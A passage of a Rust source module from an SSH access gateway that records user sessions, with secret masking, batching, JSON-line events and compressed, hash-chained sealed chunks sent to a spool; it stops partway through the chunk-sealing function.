//! Recording what passes through the gateway: each user connection is one
//! recording ([`Recorder`]), each of its channels taps into it
//! ([`ChannelTap`]) from the bridge, message by message.
//!
//! The session's data path only queues: a tap hands the bytes of an SSH
//! message (a reference-counted `Bytes`, not a copy) to the recording's
//! inbox and goes on forwarding. A worker of the recording's own takes
//! whatever gathered, on the blocking pool, and does all the work there:
//! UTF-8 and masking per channel, events as JSON lines (written straight
//! from the bytes: one escaping pass), chunks compressed (zstd), sealed and
//! hash-chained ([`gatepass_api::recording::seal`]) and queued for the
//! spool ([`crate::spool`]), whose writer fsyncs them within milliseconds.
//! The inbox is bounded ([`MAX_PENDING`] bytes): a session that outruns
//! its recording waits for it (backpressure), nothing is dropped. Profiled
//! before this split, a recorded session spent its time in that work and
//! in what the uncompressed chunks cost after it (base64, the spool file,
//! the upload, the server's seal and database), all on the data path's
//! cores; BENCHMARKS.md "Session recording" has the figures.
//!
//! Events are JSON lines ([`gatepass_api::recording::Event`]) with their
//! time since the connection began, taken when the tap queued them. They
//! are cut into chunks of `chunk_bytes`, or whatever gathered in
//! `chunk_interval`, each sealed and queued for the spool, so a gateway
//! killed mid-session loses at most the chunk being gathered (and what is
//! queued meanwhile, milliseconds). Under load (a chunk full within
//! [`GROW_WINDOW`]) a chunk grows up to `max_chunk_bytes` (while the text
//! compresses well; see [`MAX_SEALED_BYTES`]): fewer, larger
//! chunks for the spool, the upload and the server's rows, while the
//! session time a chunk covers stays small. When the connection ends, the
//! last chunk and the signed end follow ([`Recorder::finish`]).
//!
//! Masking rules ([`Masking`]) apply per channel before an event is made:
//! each direction of a channel holds back its unfinished line, as
//! [`Utf8Carry`] holds back a split character, so a match across SSH
//! packets (and so across chunks, which are cut between events) is caught
//! before anything is sealed. Search reads the events where the server
//! opens the chunks (`server/src/pam/recordings.rs`).

use std::collections::HashMap;
use std::io::Write as _;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use ed25519_dalek::SigningKey;
use gatepass_api::recording::{
    self, Data, Digest, Event, EventKind, Packer, RecordingGrant, SftpOp, Stream, Utf8Carry,
    GENESIS,
};
use tokio::sync::{watch, Notify, Semaphore};
use tracing::warn;
use zeroize::{Zeroize, Zeroizing};

use crate::spool::{Spool, SpoolItem};

/// How the gateway records.
pub struct RecordingSettings {
    pub spool: Arc<Spool>,
    /// Signs each recording's end; None for a gateway enrolled before
    /// recordings were signed (its recordings end unsigned).
    pub signer: Option<SigningKey>,
    /// A chunk is sealed once this much is gathered…
    pub chunk_bytes: usize,
    /// …or, when that came within [`GROW_WINDOW`] of its first event, once
    /// this much is (at least `chunk_bytes`; while the recording's text
    /// does not compress, at most `max_sealed_bytes`)…
    pub max_chunk_bytes: usize,
    /// …or this long after its first event, whichever comes first.
    pub chunk_interval: Duration,
    /// The most compressed bytes one chunk seals: a chunk whose text
    /// compresses to more is sealed as several, cut between events.
    pub max_sealed_bytes: usize,
    /// What is masked before it is recorded; None: nothing.
    pub mask: Option<Masking>,
}

/// The largest chunk the gateway gathers under load, in bytes of JSON
/// lines. Every chunk costs the same trip whatever its size (a spool
/// write, an upload, the server's request, audit entry and row): at
/// 512 KiB a busy session's chunks cost the server about as much CPU
/// as the recording's own work on the gateway (BENCHMARKS.md, "Session
/// recording"); terminal output compresses twentyfold and more, so a
/// 4 MiB chunk still seals to far less than [`MAX_SEALED_BYTES`].
pub const MAX_CHUNK_BYTES: usize = 4 << 20;

/// The most compressed bytes one chunk seals: sealed and in base64 it
/// stays well under the 1 MiB the server takes. A chunk's text that
/// compresses to more is sealed in parts ([`Worker::seal`]), and while a
/// recording's text does not compress at least [`GOOD_RATIO`] times, its
/// chunks grow only to this much text, so that is rare.
pub const MAX_SEALED_BYTES: usize = 512 * 1024;

/// How many times a chunk's text must shrink for the next chunk to grow
/// past [`MAX_SEALED_BYTES`] of text.
pub const GOOD_RATIO: usize = 8;

/// A chunk that reached `chunk_bytes` sooner than this after its first
/// event is the recording of a busy session: it grows up to
/// `max_chunk_bytes`, sealed at the latest this long after it began.
pub const GROW_WINDOW: Duration = Duration::from_millis(100);

/// What a recording's channels may have queued for its worker, in bytes
/// of channel data; past it their data waits until the worker catches up.
pub const MAX_PENDING: usize = 4 << 20;

/// The worker takes the inbox in batches: once this many bytes of channel
/// data are queued…
pub const BATCH_BYTES: usize = 256 * 1024;

/// …or this long after the first message of a batch was queued, whichever
/// comes first. Waking the worker for every SSH message (32 KiB at most)
/// cost a task switch and a hand-off to the blocking pool each, on the
/// cores the session's own SSH work runs on; a busy session now wakes it
/// once per eight of them or more. The delay only holds back when the
/// worker sees the data: each message's time is taken when it is queued,
/// and it is well under what `chunk_interval` and live view allow.
pub const BATCH_DELAY: Duration = Duration::from_millis(10);

/// The longest text a masking rule may match, in bytes: a channel's
/// unfinished line is held back only this far, and a match longer than
/// this may be cut and be recorded in part.
pub const MASK_WINDOW: usize = 4096;

/// Masking rules: text they match in a channel's output or input is
/// recorded as `*`, one per character, so that the recording keeps the
/// terminal's columns (a full-screen program replays in place) while the
/// secret is never sealed, spooled or sent.
///
/// Text is settled line by line: a channel's text after its last line
/// break (`\n` or `\r`, which is what Enter sends in a terminal) is held
/// back until its line ends, the channel closes, or it grows past
/// [`MASK_WINDOW`]; so a rule matches within one line of at most 4 KiB,
/// however the text was split into packets and chunks. Held text is
/// recorded when it is settled, so with masking on a line's time in the
/// recording is when it ended, not when its first characters were shown.
pub struct Masking {
    rules: Vec<regex::Regex>,
}

impl Masking {
    /// The rules (regular expressions, the `regex` crate's syntax); None
    /// when there are none.
    pub fn new(patterns: &[String]) -> Result<Option<Masking>, String> {
        if patterns.is_empty() {
            return Ok(None);
        }
        let rules = patterns
            .iter()
            .map(|p| {
                regex::Regex::new(p).map_err(|e| format!("masking rule {p:?} is not valid: {e}"))
            })
            .collect::<Result<Vec<_>, _>>()?;
        Ok(Some(Masking { rules }))
    }

    /// `text`, whole, masked (an exec command, which comes in one piece).
    pub fn apply(&self, text: &str) -> String {
        masked(text, &self.matches(text))
    }

    /// The ranges of `text` some rule matches, sorted, overlaps merged.
    fn matches(&self, text: &str) -> Vec<(usize, usize)> {
        let mut found: Vec<(usize, usize)> = self
            .rules
            .iter()
            .flat_map(|r| r.find_iter(text).map(|m| (m.start(), m.end())))
            .filter(|(a, b)| a < b)
            .collect();
        found.sort_unstable();
        let mut merged: Vec<(usize, usize)> = Vec::with_capacity(found.len());
        for (a, b) in found {
            match merged.last_mut() {
                Some(last) if a <= last.1 => last.1 = last.1.max(b),
                _ => merged.push((a, b)),
            }
        }
        merged
    }
}

/// One direction of a channel going through the masking rules: what is
/// held back (see [`Masking`]).
#[derive(Default)]
struct MaskTail {
    held: String,
}

impl MaskTail {
    /// The settled text after `text` is added, masked.
    fn push(&mut self, m: &Masking, text: &str) -> String {
        self.held.push_str(text);
        let len = self.held.len();
        let line_start = self.held.rfind(['\n', '\r']).map_or(0, |i| i + 1);
        let mut cut = line_start.max(floor_char_boundary(
            &self.held,
            len.saturating_sub(MASK_WINDOW),
        ));
        let found = m.matches(&self.held);
        // A match across the cut is settled whole.
        if let Some(&(_, b)) = found.iter().find(|&&(a, b)| a < cut && b > cut) {
            cut = b;
        }
        if cut == 0 {
            return String::new();
        }
        let out = masked(&self.held[..cut], &found);
        self.held.drain(..cut);
        out
    }

    /// All that is held, masked: the channel has closed.
    fn finish(&mut self, m: &Masking) -> String {
        let held = std::mem::take(&mut self.held);
        masked(&held, &m.matches(&held))
    }
}

/// The largest char boundary of `s` at or before `i`.
fn floor_char_boundary(s: &str, mut i: usize) -> usize {
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// `text` with the parts of `ranges` (of a text `text` begins) that lie in
/// it replaced by one `*` per character.
fn masked(text: &str, ranges: &[(usize, usize)]) -> String {
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for &(a, b) in ranges {
        if a >= text.len() {
            break;
        }
        let b = b.min(text.len());
        out.push_str(&text[at..a]);
        out.extend(std::iter::repeat_n('*', text[a..b].chars().count()));
        at = b;
    }
    out.push_str(&text[at..]);
    out
}

/// One connection's recording: the inbox its channels queue to. Its worker
/// (a task started with it) does the recording's work; see the module's
/// text.
pub struct Recorder {
    recording: String,
    record_input: bool,
    channels: AtomicU32,
    shared: Arc<Shared>,
    /// True once the worker has spooled what it had, with the end when the
    /// recording was finished.
    done: watch::Receiver<bool>,
    /// The spool's [`Spool::trouble`]: the session ends when it says the
    /// recording cannot be kept.
    trouble: watch::Receiver<Option<String>>,
}

/// What a recorder shares with its worker.
struct Shared {
    inbox: Mutex<Inbox>,
    /// Something was queued, or the recording is finishing or dropped.
    wake: Notify,
    /// Room in the inbox, in bytes of channel data: a tap takes some
    /// before it queues data and the worker gives it back once recorded,
    /// so a full inbox makes the session wait rather than lose anything.
    room: Semaphore,
    /// Batches the worker has taken (what the batching saves shows here).
    batches: AtomicU64,
}

#[derive(Default)]
struct Inbox {
    msgs: Vec<Msg>,
    /// Bytes of channel data in `msgs`.
    bytes: usize,
    /// The worker sleeps until `bytes` reaches this (0: until anything is
    /// queued) and is to be woken then; None: it is not waiting for the
    /// taps, so they do not wake it. A full inbox ([`MAX_PENDING`]) is
    /// always past [`BATCH_BYTES`], so a session waiting for room always
    /// has its worker woken: backpressure, never a stall.
    wake_at: Option<usize>,
    /// The end is asked for: nothing more is queued.
    finishing: bool,
    /// The recorder is gone without an end (its connection was dropped).
    dropped: bool,
}

/// What a channel did, and when.
struct Msg {
    at: Instant,
    ch: u32,
    what: What,
    /// Room it holds in the inbox, given back once it is recorded.
    room: u32,
}

enum What {
    Output(Bytes),
    Input(Bytes),
    Exec(Bytes),
    Exit(u32),
    Close,
    Event(EventKind),
}

impl Recorder {
    /// Begins the recording `grant` of session `session`, now, and starts
    /// its worker (on the current tokio runtime).
    pub fn start(
        session: &str,
        grant: &RecordingGrant,
        settings: Arc<RecordingSettings>,
    ) -> Result<Arc<Recorder>, String> {
        let key = recording::parse_key(&grant.key).map_err(|e| e.to_string())?;
        let packer = Packer::new().map_err(|e| e.to_string())?;
        let shared = Arc::new(Shared {
            inbox: Mutex::default(),
            wake: Notify::new(),
            room: Semaphore::new(MAX_PENDING),
            batches: AtomicU64::new(0),
        });
        if let Some(why) = settings.spool.trouble() {
            return Err(why);
        }
        let trouble = settings.spool.watch_trouble();
        let (done_tx, done) = watch::channel(false);
        let start = Instant::now();
        let worker = Worker {
            session: session.to_owned(),
            recording: grant.recording_id.clone(),
            key: Zeroizing::new(key),
            record_input: grant.record_input,
            start,
            settings: settings.clone(),
            taps: HashMap::new(),
            buf: Zeroizing::new(Vec::new()),
            since: None,
            index: 0,
            prev: GENESIS,
            packer,
            compresses: false,
            last_binary: None,
        };
        tokio::spawn(work(shared.clone(), worker, done_tx));
        Ok(Arc::new(Recorder {
            recording: grant.recording_id.clone(),
            record_input: grant.record_input,
            channels: AtomicU32::new(0),
            shared,
            done,
            trouble,
        }))
    }

    /// Resolves with why, once the recording can no longer be kept (see
    /// [`Spool::trouble`]); never while it can.
    pub async fn cannot_keep(&self) -> String {
        let mut trouble = self.trouble.clone();
        let why = trouble
            .wait_for(Option::is_some)
            .await
            .map(|why| why.clone().unwrap_or_default());
        match why {
            Ok(why) => why,
            // The spool is gone only with the gateway.
            Err(_) => std::future::pending().await,
        }
    }

    pub fn id(&self) -> &str {
        &self.recording
    }

    /// A number for a new channel of the connection.
    pub fn next_channel(&self) -> u32 {
        self.channels.fetch_add(1, Ordering::Relaxed)
    }

    /// Records one event on channel `ch`.
    pub fn event(&self, ch: u32, kind: EventKind) {
        if matches!(kind, EventKind::Input { .. }) && !self.record_input {
            return;
        }
        self.push(ch, What::Event(kind), 0);
    }

    /// Queues channel data once there is room for it: the one place a
    /// session waits for its recording.
    async fn data(&self, ch: u32, what: What, len: usize) {
        let room = u32::try_from(len.min(MAX_PENDING)).unwrap_or(u32::MAX);
        match self.shared.room.acquire_many(room).await {
            Ok(permit) => permit.forget(),
            // Closed: the recording has ended; nothing more is recorded.
            Err(_) => return,
        }
        self.push(ch, what, room);
    }

    fn push(&self, ch: u32, what: What, room: u32) {
        let Ok(mut inbox) = self.shared.inbox.lock() else {
            return;
        };
        if inbox.finishing || inbox.dropped {
            drop(inbox);
            self.shared.room.add_permits(room as usize);
            return;
        }
        // Taken under the lock, so times never go back in the recording.
        inbox.msgs.push(Msg {
            at: Instant::now(),
            ch,
            what,
            room,
        });
        inbox.bytes += room as usize;
        // Only the message that completes what the worker waits for wakes
        // it; the others just queue (see BATCH_DELAY).
        let wake = inbox.wake_at.is_some_and(|n| inbox.bytes >= n);
        if wake {
            inbox.wake_at = None;
        }
        drop(inbox);
        if wake {
            self.shared.wake.notify_one();
        }
    }

    /// Ends the recording: what is queued, the last chunk, then the signed
    /// end, handed to the spool before this returns. Events after this are
    /// not recorded.
    pub async fn finish(&self) {
        if let Ok(mut inbox) = self.shared.inbox.lock() {
            inbox.finishing = true;
        }
        self.shared.wake.notify_one();
        let mut done = self.done.clone();
        let _ = done.wait_for(|d| *d).await;
    }
}

impl Drop for Recorder {
    /// Without [`Recorder::finish`] (the connection went away some other
    /// way) the worker still seals what it has; the recording reads as cut.
    fn drop(&mut self) {
        if let Ok(mut inbox) = self.shared.inbox.lock() {
            inbox.dropped = true;
        }
        self.shared.wake.notify_one();
    }
}

/// The worker: waits for a batch of messages (see [`BATCH_BYTES`]) or for
/// the gathered chunk to be due, records on the blocking pool, gives the
/// room back, until the recording ends.
async fn work(shared: Arc<Shared>, mut w: Worker, done: watch::Sender<bool>) {
    loop {
        let batch = loop {
            let wake = shared.wake.notified();
            tokio::pin!(wake);
            // Registered before the inbox is looked at, so a message queued
            // in between is not missed.
            wake.as_mut().enable();
            let now = Instant::now();
            let mut deadline = w.due();
            match shared.inbox.lock() {
                Ok(mut inbox) => {
                    let first_due = inbox.msgs.first().map(|m| m.at + BATCH_DELAY);
                    if inbox.finishing
                        || inbox.dropped
                        || inbox.bytes >= BATCH_BYTES
                        || first_due.is_some_and(|at| now >= at)
                        || deadline.is_some_and(|at| now >= at)
                    {
                        break take(&mut inbox);
                    }
                    match first_due {
                        Some(at) => {
                            deadline = Some(deadline.map_or(at, |d| d.min(at)));
                            inbox.wake_at = Some(BATCH_BYTES);
                        }
                        None => inbox.wake_at = Some(0),
                    }
                }
                Err(_) => {
                    break Batch {
                        msgs: Vec::new(),
                        finishing: false,
                        dropped: true,
                    }
                }
            }
            match deadline {
                Some(at) => {
                    tokio::select! {
                        () = &mut wake => {}
                        () = tokio::time::sleep_until(at.into()) => {}
                    }
                }
                None => wake.await,
            }
        };
        let worker_shared = shared.clone();
        let job = tokio::task::spawn_blocking(move || {
            let ended = w.drain(&worker_shared, batch);
            (w, ended)
        });
        match job.await {
            Ok((back, ended)) => {
                w = back;
                if ended {
                    // Taps waiting for room go on; they record nothing more.
                    shared.room.close();
                    let _ = done.send(true);
                    return;
                }
            }
            Err(e) => {
                warn!("a recording stopped: {e}");
                shared.room.close();
                let _ = done.send(true);
                return;
            }
        }
    }
}

/// What the worker took from the inbox.
struct Batch {
    msgs: Vec<Msg>,
    finishing: bool,
    dropped: bool,
}

/// Takes everything queued; the taps need not wake the worker meanwhile.
fn take(inbox: &mut Inbox) -> Batch {
    inbox.wake_at = None;
    inbox.bytes = 0;
    Batch {
        msgs: std::mem::take(&mut inbox.msgs),
        finishing: inbox.finishing,
        dropped: inbox.dropped,
    }
}

/// The recording's state, owned by its worker.
struct Worker {
    session: String,
    recording: String,
    key: Zeroizing<[u8; 32]>,
    record_input: bool,
    start: Instant,
    settings: Arc<RecordingSettings>,
    taps: HashMap<u32, Tap>,
    /// The chunk being gathered: JSON lines.
    buf: Zeroizing<Vec<u8>>,
    /// When its first event came.
    since: Option<Instant>,
    index: u64,
    prev: Digest,
    packer: Packer,
    /// The last chunk's text compressed [`GOOD_RATIO`] times or more.
    compresses: bool,
    /// The binary event that ends the chunk being gathered, grown while
    /// more binary data of its stream comes with nothing between.
    last_binary: Option<LastBinary>,
}

/// A binary event written to the chunk: where its line begins and ends.
struct LastBinary {
    event: Event,
    at: usize,
    end: usize,
}

/// Appends a binary event of `n` bytes with its `strings`, or, when it
/// has none and the chunk ends with a binary event of the same channel and
/// stream, writes that one again `n` bytes larger: a file piped through a
/// session is one event, not one per SSH message.
fn write_binary(
    buf: &mut Vec<u8>,
    last: &mut Option<LastBinary>,
    at_time: f64,
    ch: u32,
    stream: Stream,
    (n, strings): (u64, String),
) {
    let event = match last.take() {
        Some(LastBinary {
            event:
                Event {
                    t,
                    ch: c,
                    kind:
                        EventKind::Binary {
                            stream: s,
                            bytes,
                            strings: before,
                        },
                },
            at,
            end,
        }) if c == ch && s == stream && end == buf.len() && strings.is_empty() => {
            buf.truncate(at);
            Event {
                t,
                ch,
                kind: EventKind::Binary {
                    stream,
                    bytes: bytes.saturating_add(n),
                    strings: before,
                },
            }
        }
        _ => Event {
            t: at_time,
            ch,
            kind: EventKind::Binary {
                stream,
                bytes: n,
                strings,
            },
        },
    };
    let at = buf.len();
    if serde_json::to_writer(&mut *buf, &event).is_ok() {
        buf.push(b'\n');
        *last = Some(LastBinary {
            event,
            at,
            end: buf.len(),
        });
    }
}

/// One channel's state in the worker.
#[derive(Default)]
struct Tap {
    input: Flow,
    output: Flow,
    command: Option<String>,
    sftp: Option<Sftp>,
}

impl Tap {
    /// Records what passed on a channel asked for sftp that does not
    /// speak it as the text of a shell's channel, and its input only when
    /// input is recorded.
    fn as_text(
        &mut self,
        buf: &mut Vec<u8>,
        last_binary: &mut Option<LastBinary>,
        mask: Option<&Masking>,
        (t, ch): (f64, u32),
        record_input: bool,
        not: &NotSftp,
    ) {
        if record_input && !not.input.is_empty() {
            let sink = Sink { buf, last_binary };
            self.input
                .record(sink, mask, t, ch, Stream::Input, &not.input);
        }
        if !not.output.is_empty() {
            let sink = Sink { buf, last_binary };
            self.output
                .record(sink, mask, t, ch, Stream::Output, &not.output);
        }
    }
}

/// One direction of a channel: what is carried between its packets.
#[derive(Default)]
struct Flow {
    carry: Utf8Carry,
    held: MaskTail,
}

/// Where the worker writes events: the chunk being gathered.
struct Sink<'a> {
    buf: &'a mut Vec<u8>,
    last_binary: &'a mut Option<LastBinary>,
}

impl Flow {
    /// Records a packet of this direction of channel `ch`: its text,
    /// masked, and its binary data as its size.
    fn record(
        &mut self,
        sink: Sink<'_>,
        mask: Option<&Masking>,
        t: f64,
        ch: u32,
        stream: Stream,
        data: &[u8],
    ) {
        let kind = match stream {
            Stream::Output => "output",
            Stream::Input => "input",
        };
        let decoded = match stream {
            Stream::Output => self.carry.decode(data),
            Stream::Input => self.carry.decode_input(data),
        };
        let (text, binary) = match decoded {
            Data::Text(text) => (text, None),
            Data::Binary {
                text,
                strings,
                bytes,
            } => (text, Some((bytes, strings))),
        };
        let text = match mask {
            // Binary data ends the line: what is held is settled before it,
            // so the recording keeps the order things came in.
            Some(mask) if binary.is_some() => {
                (self.held.push(mask, &text) + &self.held.finish(mask)).into()
            }
            Some(mask) => self.held.push(mask, &text).into(),
            None => text,
        };
        if !text.is_empty() {
            write_text(sink.buf, t, ch, kind, &text);
        }
        if let Some((n, strings)) = binary {
            // The strings are masked as a text of their own: each run is a
            // line of it.
            let strings = match mask {
                Some(mask) if !strings.is_empty() => mask.apply(&strings),
                _ => strings,
            };
            write_binary(sink.buf, sink.last_binary, t, ch, stream, (n, strings));
        }
    }

    /// What is left when the channel closes: split characters and held
    /// lines, masked.
    fn finish(&mut self, mask: Option<&Masking>) -> String {
        let rest = self.carry.finish();
        match mask {
            Some(mask) => self.held.push(mask, &rest) + &self.held.finish(mask),
            None => rest,
        }
    }
}

/// Appends an `output` or `input` event as a JSON line, the text escaped
/// straight into the chunk: no event value is built for the bytes every
/// busy session sends through here. It reads back as [`Event`].
fn write_text(buf: &mut Vec<u8>, t: f64, ch: u32, kind: &str, text: &str) {
    buf.extend_from_slice(b"{\"t\":");
    // Writing to a Vec cannot fail.
    let _ = serde_json::to_writer(&mut *buf, &t);
    // Written in place: no string allocated per message.
    let _ = write!(buf, ",\"ch\":{ch},\"type\":\"{kind}\",\"data\":");
    write_json_str(buf, text);
    buf.extend_from_slice(b"}\n");
}

/// Which of the eight bytes of `w` (little-endian) must be escaped in a
/// JSON string (a control character, `"` or `\`), as the high bit of each:
/// the classic bit tricks for "a byte less than n" and "a byte equal to c",
/// eight bytes at once. Every such byte has its bit; bits above the
/// lowest may be false alarms (a borrow carries up), the lowest never is:
/// it names the first such byte.
fn escape_mask(w: u64) -> u64 {
    const ONES: u64 = 0x0101_0101_0101_0101;
    const HIGH: u64 = 0x8080_8080_8080_8080;
    let zero_byte = |x: u64| x.wrapping_sub(ONES) & !x & HIGH;
    let control = w.wrapping_sub(ONES * 0x20) & !w & HIGH;
    control | zero_byte(w ^ (ONES * u64::from(b'"'))) | zero_byte(w ^ (ONES * u64::from(b'\\')))
}

/// Bytes the escaper looks at in one step: four words.
const BLOCK: usize = 32;

/// The eight bytes of `b` from `i`, little-endian.
fn word(b: &[u8], i: usize) -> u64 {
    let mut w = [0u8; 8];
    w.copy_from_slice(&b[i..i + 8]);
    u64::from_le_bytes(w)
}

/// Appends `text` as a JSON string, escaped as serde_json escapes it.
/// serde_json looks each byte up in a table; in terminal output almost no
/// byte needs escaping, so this looks at a block of four words at a time
/// ([`escape_mask`]) and copies the runs between escapes whole (the
/// recording's largest cost in a profile of a busy session was that
/// escaping). A block with nothing to escape costs one branch instead of
/// four: one word at a time, escaping 1 GiB of 100-byte log lines took
/// 0.57 CPU seconds on an Intel Xeon, 0.39 by blocks.
fn write_json_str(buf: &mut Vec<u8>, text: &str) {
    let bytes = text.as_bytes();
    buf.reserve(bytes.len() + 2);
    buf.push(b'"');
    // Bytes before `run` are in `buf` already.
    let mut run = 0;
    let mut at = 0;
    let mut blocks = bytes.chunks_exact(BLOCK);
    for block in &mut blocks {
        let masks: [u64; BLOCK / 8] = std::array::from_fn(|w| escape_mask(word(block, w * 8)));
        if masks.iter().fold(0, |a, m| a | m) != 0 {
            let mut j = 0;
            while j < BLOCK {
                // The flags of the word holding byte j, from byte j on: the
                // lowest is a byte to look at (a false alarm above an
                // escaped byte is looked at and passed).
                let m = masks[j / 8] >> (j % 8 * 8);
                if m == 0 {
                    j = (j / 8 + 1) * 8;
                    continue;
                }
                let k = j + (m.trailing_zeros() / 8) as usize;
                escape_at(buf, bytes, &mut run, at + k);
                j = k + 1;
            }
        }
        at += BLOCK;
    }
    for i in at..bytes.len() {
        escape_at(buf, bytes, &mut run, i);
    }
    buf.extend_from_slice(&bytes[run..]);
    buf.push(b'"');
}

/// When `bytes[i]` must be escaped: appends the run of bytes before it
/// (from `run`) and its escape, and moves `run` past it.
fn escape_at(buf: &mut Vec<u8>, bytes: &[u8], run: &mut usize, i: usize) {
    let c = bytes[i];
    let short: &[u8] = match c {
        b'"' => b"\\\"",
        b'\\' => b"\\\\",
        b'\n' => b"\\n",
        b'\r' => b"\\r",
        b'\t' => b"\\t",
        0x08 => b"\\b",
        0x0c => b"\\f",
        0..=0x1f => b"",
        _ => return,
    };
    buf.extend_from_slice(&bytes[*run..i]);
    if short.is_empty() {
        const HEX: &[u8; 16] = b"0123456789abcdef";
        buf.extend_from_slice(&[
            b'\\',
            b'u',
            b'0',
            b'0',
            HEX[usize::from(c >> 4)],
            HEX[usize::from(c & 0xf)],
        ]);
    } else {
        buf.extend_from_slice(short);
    }
    *run = i + 1;
}

impl Worker {
    /// Records `batch`, and the next ones as long as a whole batch gathered
    /// meanwhile (the session outruns the worker: no need to go back to
    /// sleep and be woken at once), giving the room back after each.
    /// True when the recording has ended.
    fn drain(&mut self, shared: &Shared, mut batch: Batch) -> bool {
        loop {
            shared.batches.fetch_add(1, Ordering::Relaxed);
            let room: usize = batch.msgs.iter().map(|m| m.room as usize).sum();
            self.record(batch.msgs);
            if batch.finishing {
                self.finish();
            } else if batch.dropped {
                self.seal();
            } else {
                self.seal_if_due(Instant::now());
            }
            shared.room.add_permits(room);
            if batch.finishing || batch.dropped {
                return true;
            }
            match shared.inbox.lock() {
                Ok(mut inbox) if inbox.bytes >= BATCH_BYTES || inbox.finishing => {
                    batch = take(&mut inbox);
                }
                Ok(_) => return false,
                Err(_) => {
                    self.seal();
                    return true;
                }
            }
        }
    }

    fn time(&self, at: Instant) -> f64 {
        (at.saturating_duration_since(self.start).as_micros() as f64) / 1e6
    }

    /// Records a batch of messages, in the order they were queued.
    fn record(&mut self, msgs: Vec<Msg>) {
        for m in msgs {
            let t = self.time(m.at);
            if self.buf.is_empty() {
                self.since = Some(m.at);
            }
            let mask = self.settings.mask.as_ref();
            let tap = self.taps.entry(m.ch).or_default();
            let mut events = Vec::new();
            let mut closed = false;
            match m.what {
                What::Output(data) => match tap.sftp.as_mut().map(|s| s.server_sent(&data)) {
                    Some(Ok(())) => {}
                    Some(Err(not)) => {
                        tap.sftp = None;
                        let (buf, last) = (&mut self.buf, &mut self.last_binary);
                        tap.as_text(buf, last, mask, (t, m.ch), self.record_input, &not);
                    }
                    None => {
                        let sink = Sink {
                            buf: &mut self.buf,
                            last_binary: &mut self.last_binary,
                        };
                        tap.output
                            .record(sink, mask, t, m.ch, Stream::Output, &data);
                    }
                },
                What::Input(data) => match tap.sftp.as_mut().map(|s| s.client_sent(&data)) {
                    Some(Ok(e)) => events = e,
                    Some(Err(not)) => {
                        tap.sftp = None;
                        let (buf, last) = (&mut self.buf, &mut self.last_binary);
                        tap.as_text(buf, last, mask, (t, m.ch), self.record_input, &not);
                    }
                    None if self.record_input => {
                        let sink = Sink {
                            buf: &mut self.buf,
                            last_binary: &mut self.last_binary,
                        };
                        tap.input.record(sink, mask, t, m.ch, Stream::Input, &data);
                    }
                    None => {}
                },
                What::Exec(command) => {
                    let mut command = String::from_utf8_lossy(&command).into_owned();
                    if let Some(mask) = mask {
                        command = mask.apply(&command);
                    }
                    tap.command = Some(command.clone());
                    events.push(EventKind::Exec { command });
                }
                What::Exit(status) => events.push(EventKind::Exit {
                    status,
                    command: tap.command.clone(),
                }),
                What::Close => {
                    // What is left of split characters and held lines, and
                    // the sftp files still open.
                    let (i, o) = (tap.input.finish(mask), tap.output.finish(mask));
                    if !o.is_empty() {
                        events.push(EventKind::Output { data: o });
                    }
                    if !i.is_empty() && self.record_input {
                        events.push(EventKind::Input { data: i });
                    }
                    if let Some(sftp) = &mut tap.sftp {
                        events.extend(sftp.close_all());
                    }
                    closed = true;
                }
                What::Event(kind) => {
                    if matches!(&kind, EventKind::Subsystem { name } if name == "sftp") {
                        tap.sftp = Some(Sftp::default());
                    }
                    events.push(kind);
                }
            }
            if closed {
                self.taps.remove(&m.ch);
            }
            for kind in events {
                let event = Event { t, ch: m.ch, kind };
                if serde_json::to_writer(&mut *self.buf, &event).is_ok() {
                    self.buf.push(b'\n');
                }
            }
            if self.buf.is_empty() {
                self.since = None;
            } else {
                self.cut(m.at);
            }
        }
    }

    /// Seals the chunk when it is full: at `chunk_bytes`, or, gathered
    /// within [`GROW_WINDOW`], at `max_chunk_bytes`.
    fn cut(&mut self, at: Instant) {
        let Some(since) = self.since else { return };
        let len = self.buf.len();
        let max = if self.compresses {
            self.settings.max_chunk_bytes
        } else {
            self.settings
                .max_chunk_bytes
                .min(self.settings.max_sealed_bytes)
        };
        if len >= max
            || (len >= self.settings.chunk_bytes
                && at.saturating_duration_since(since) >= GROW_WINDOW)
        {
            self.seal();
        }
    }

    /// When the chunk being gathered is to be sealed if nothing more comes.
    fn due(&self) -> Option<Instant> {
        let since = self.since?;
        let due = since + self.settings.chunk_interval;
        Some(if self.buf.len() >= self.settings.chunk_bytes {
            due.min(since + GROW_WINDOW)
        } else {
            due
        })
    }

    fn seal_if_due(&mut self, now: Instant) {
        if self.due().is_some_and(|due| now >= due) {
            self.seal();
        }
    }

    /// Compresses, seals and spools what gathered.
    fn seal(&mut self) {
        self.since = None;
        self.last_binary = None;
        if self.buf.is_empty() {
            return;
        }
        let mut text = std::mem::take(&mut self.buf);
        let whole = 0..text.len();
        let packed = self.seal_part(&text, whole);
        self.compresses = packed.is_some_and(|p| p.saturating_mul(GOOD_RATIO) <= text.len());
        // The text is not kept in memory once it is sealed. Only the bytes
        // this chunk used are cleared: past them the buffer holds zeros (or
        // was never written), since every chunk before was cleared the same
        // way; clearing its whole capacity, about twice a busy chunk's size,
        // was a cost of its own in a profile.
        let used = text.len();
        text[..used].zeroize();
        text.clear();
        self.buf = text;
    }

    /// Seals `text[part]` as the next chunk, or, when it compresses to more
    /// than `max_sealed_bytes`, as several cut at line ends (each event is
    /// one line). Returns the compressed bytes sealed.
    fn seal_part(&mut self, text: &[u8], part: std::ops::Range<usize>) -> Option<usize> {
        let packed = match self.packer.pack(&text[part.clone()]).map(Zeroizing::new) {
            Ok(p) => p,
            Err(e) => {
                warn!(session = %self.session, "cannot seal a recording chunk: {e}");
                return None;
            }
        };
        if packed.len() > self.settings.max_sealed_bytes {
            let mid = part.start + part.len() / 2;
            let after = text[mid..part.end].iter().position(|&b| b == b'\n');
            let before = text[part.start..mid].iter().rposition(|&b| b == b'\n');
            let cut = after
                .map(|i| mid + i + 1)
                .filter(|&c| c < part.end)
                .or(before.map(|i| part.start + i + 1));
            if let Some(cut) = cut.filter(|&c| c > part.start) {
                let first = self.seal_part(text, part.start..cut);
                let second = self.seal_part(text, cut..part.end);
                return Some(first? + second?);
            }
        }
        let sealed = recording::seal(
            &self.key,
            &self.session,
            &self.recording,
            self.index,
            &self.prev,
            &packed,
        );
        match sealed {
            Ok((chunk, digest)) => {
                let item = SpoolItem::Chunk {
                    session: self.session.clone(),
